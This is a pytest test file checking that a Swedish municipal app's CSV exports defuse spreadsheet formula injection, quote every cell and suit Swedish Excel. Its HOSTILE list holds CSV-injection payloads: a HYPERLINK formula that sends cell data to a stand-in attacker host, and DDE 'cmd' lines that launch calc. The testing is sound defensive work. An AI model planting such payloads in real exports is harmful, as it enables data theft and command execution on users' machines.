"""CSV exports run no formulas: hostile names, municipalities and summaries are defused
(OWASP CSV injection), every cell is quoted, and the file opens in a Swedish Excel
(semicolons, decimal commas, BOM); ?sep=comma gives the international form."""

from __future__ import annotations

import csv
import io

import pytest

from drafting.csv_export import FORMULA_STARTS, csv_text, safe_cell
from drafting.models import Decision, local_today
from drafting.services import drafting, responses, review, stages
from drafting.services.audit import record_event
from tests.conftest import coordinator, director, login, municipality, official

HOSTILE = [
    '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
TRIO = ["Malmö", "Lund", "Eslöv"]


def rows_of(response, delimiter: str = ";") -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # Excel reads UTF-8 (å, ä, ö) only with the BOM
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


def assert_nothing_runs(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize("hostile", HOSTILE)
def test_safe_cell_defuses_a_formula_and_keeps_its_text(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("harmless", ["Lund", "Kommunstyrelsen – beslut", "2026-01-15", " =inte i början", ""])
def test_safe_cell_leaves_plain_text_alone(harmless):
    assert safe_cell(harmless) == harmless


def test_numbers_stay_numbers_and_every_cell_is_quoted():
    text = csv_text([["namn", "antal"], ["Lund;=1+1", -3]], ",")
    assert text == '\ufeff"namn","antal"\r\n"Lund;=1+1","-3"\r\n'


def test_the_default_is_for_a_swedish_excel_semicolons_and_decimal_commas():
    text = csv_text([["namn", "dagar", "median"], ["Lund;=1+1", -3, 12.5]])
    assert text == '\ufeff"namn";"dagar";"median"\r\n"Lund;=1+1";"-3";"12,5"\r\n'
    assert csv_text([["median"], [12.5]], ",") == '\ufeff"median"\r\n"12.5"\r\n'


def test_the_download_is_semicolon_separated_unless_comma_is_asked_for(app, db, demo):
    client = app.test_client()
    login(client, "koordinator@example.se")
    url = f"/responses/{demo.id}/audit.csv"
    default = client.get(url).get_data(as_text=True)
    assert default.startswith('\ufeff"tid_utc";"person";')
    assert client.get(url + "?sep=semicolon").get_data(as_text=True) == default
    comma = client.get(url + "?sep=comma").get_data(as_text=True)
    assert comma.startswith('\ufeff"tid_utc","person",')
    refused = client.get(url + "?sep=tab")
    assert refused.status_code == 400
    assert "Okänd avgränsare" in refused.get_data(as_text=True)


def test_audit_csv_defuses_hostile_people_municipalities_and_summaries(app, db, demo):
    lund = official("Lund")
    coordinator().name = HOSTILE[0]
    municipality("Lund").name = HOSTILE[1]
    responses.invite(demo, coordinator(), [lund.municipality_id])
    responses.answer_invitation(demo, lund, join=True)
    drafting.add_section(demo, coordinator(), "Bakgrund", "Text.")
    for summary in HOSTILE[2:]:
        record_event("commented", lund, response=demo, summary=summary)
    db.session.commit()
    client = app.test_client()
    login(client, "koordinator@example.se")
    rows = rows_of(client.get(f"/responses/{demo.id}/audit.csv"))
    assert_nothing_runs(rows)
    cells = {cell for row in rows for cell in row}
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells
    assert {"'" + summary for summary in HOSTILE[2:]} <= cells


def test_followup_csv_defuses_hostile_cooperation_and_municipality_names(app, db, demo):
    responses.invite(demo, coordinator(), [municipality(n).id for n in TRIO])
    for name in TRIO:
        responses.answer_invitation(demo, official(name), join=True)
    drafting.publish_version(demo, coordinator(), "")
    for name in TRIO:
        review.record_position(demo, official(name), 1, Decision.APPROVE)
    for name in TRIO:
        review.sign_off(demo, director(name), 1, review.SignOffInput(
            "Kommunstyrelsen", local_today(), f"Direktör {name}", "Kommundirektör"))
    stages.record_sent(demo, coordinator(), local_today())
    demo.cooperation.name = HOSTILE[0]
    for name, hostile in zip(TRIO, HOSTILE[1:], strict=False):
        municipality(name).name = hostile
    municipality("Höör").name = "Höör;=1+1"  # a ";" would split the cell unless it is quoted
    db.session.commit()
    client = app.test_client()
    login(client, "koordinator@example.se")
    response = client.get(f"/cooperations/{demo.cooperation_id}/report.csv?year={local_today().year}")
    rows = rows_of(response)
    assert_nothing_runs(rows)
    cells = {cell for row in rows for cell in row}
    assert {"'" + hostile for hostile in HOSTILE[:4]} <= cells
    assert '"Höör;=1+1"' in response.get_data(as_text=True)
    comma_rows = rows_of(client.get(f"/cooperations/{demo.cooperation_id}/report.csv"
                                    f"?year={local_today().year}&sep=comma"), ",")
    assert_nothing_runs(comma_rows)
    assert {"'" + hostile for hostile in HOSTILE[:4]} <= {c for row in comma_rows for c in row}
